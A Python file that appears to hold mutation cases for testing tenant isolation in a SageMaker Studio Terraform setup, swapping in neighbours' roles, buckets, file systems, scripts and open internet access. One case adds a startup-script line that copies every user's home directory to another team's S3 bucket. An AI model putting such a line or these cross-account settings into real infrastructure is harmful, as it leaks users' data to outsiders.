"""Ways through the arguments of Studio: people, groups, roles, buckets, scripts, images, file systems."""

from isolation.plan.way import (
    APP,
    DOMAIN,
    DOMAIN_SETTINGS,
    KEY,
    LAB,
    NEIGHBOUR_ROLE,
    PROFILES,
    USER_SETTINGS,
    Way,
    beside,
)

STUDIO = (
    Way("another person signs in", LAB, PROFILES, '= "mira"\n\n  user_s', '= "ana"\n\n  user_s', '= "ana"'),
    Way("another identifier", LAB, PROFILES, '"UserName"', '"Email"', "single_sign_on_user_identifier"),
    Way("another group", LAB, "modules/domain/access.tf", '= "Vision Lab"', '= "Other Lab"', "planned is"),
    Way("a user in place of a group", LAB, "modules/domain/access.tf", '"GROUP"', '"USER"', "principal_type"),
    Way("no single sign-on", LAB, DOMAIN, '"SSO"', '"IAM"', 'auth_mode = "IAM"'),
    Way(
        "another's role",
        LAB,
        PROFILES,
        'var.execution_role_arns["imaging/data-scientist"]',
        f'"{NEIGHBOUR_ROLE}"',
        "user_settings.execution_role",
    ),
    Way("another profile's group", LAB, PROFILES, 'ids["mira"]', 'ids["sven"]', "security_groups"),
    Way(
        "a foreign group", LAB, DOMAIN, "[var.domain_security_group_id]", '["sg-00000000"]', "security_groups"
    ),
    Way("another VPC", LAB, DOMAIN, "var.vpc_id", '"vpc-00000000"', "vpc_id"),
    Way("another key", LAB, DOMAIN, "var.studio_key_arn", f'"{KEY}"', "kms_key_id"),
    beside(
        "EMR as a neighbour",
        DOMAIN,
        APP,
        f'      emr_settings {{\n        assumable_role_arns = ["{NEIGHBOUR_ROLE}"]\n      }}',
        "emr_settings",
    ),
    beside(
        "Canvas into a neighbour's bucket",
        DOMAIN,
        USER_SETTINGS,
        "    canvas_app_settings {\n      workspace_settings {\n"
        '        s3_artifact_path = "s3://acme-team-b-dev-100000000004/"\n      }\n    }',
        "s3_artifact_path",
    ),
    Way(
        "notebooks shared into a bucket",
        LAB,
        DOMAIN,
        'notebook_output_option = "Disabled"',
        'notebook_output_option = "Allowed"\n      s3_output_path = "s3://acme-team-b-dev-100000000004/"',
        "s3_output_path",
    ),
    beside(
        "a neighbour's file system",
        DOMAIN,
        USER_SETTINGS,
        "    custom_file_system_config {\n      efs_file_system_config {\n"
        '        file_system_id = "fs-00000000"\n      }\n    }',
        "file_system_id",
    ),
    beside(
        "a foreign lifecycle script",
        DOMAIN,
        APP,
        '      lifecycle_config_arns = ["arn:aws:sagemaker:eu-west-1:1:studio-lifecycle-config/x"]',
        "lifecycle_config_arns",
    ),
    Way(
        "a foreign script in a profile",
        LAB,
        PROFILES,
        'var.startup_script_arns["vision-lab-imaging/JupyterLab"]',
        '"arn:aws:sagemaker:eu-west-1:1:studio-lifecycle-config/x"',
        "built_in_lifecycle_config_arn",
    ),
    Way(
        "a line more in the script that everybody's applications start with",
        LAB,
        "modules/sdk_defaults/main.tf",
        '    "exit 0",',
        '    "aws s3 cp --recursive ~ s3://acme-team-b-dev-100000000004/",\n    "exit 0",',
        "studio_lifecycle_config_content",
    ),
    beside(
        "a foreign image",
        DOMAIN,
        APP,
        '      custom_image {\n        app_image_config_name = "x"\n        image_name = "y"\n      }',
        "custom_image",
    ),
    beside(
        "a foreign Docker account",
        DOMAIN,
        DOMAIN_SETTINGS,
        '    docker_settings {\n      enable_docker_access = "ENABLED"\n'
        '      vpc_only_trusted_accounts = ["100000000004"]\n    }',
        "vpc_only_trusted_accounts",
    ),
    beside(
        "RStudio for everybody",
        DOMAIN,
        DOMAIN_SETTINGS,
        "    r_studio_server_pro_domain_settings {\n"
        f'      domain_execution_role_arn = "{NEIGHBOUR_ROLE}"\n    }}',
        "domain_execution_role_arn",
    ),
    Way("the internet", LAB, DOMAIN, '"VpcOnly"', '"PublicInternetOnly"', "app_network_access_type"),
)
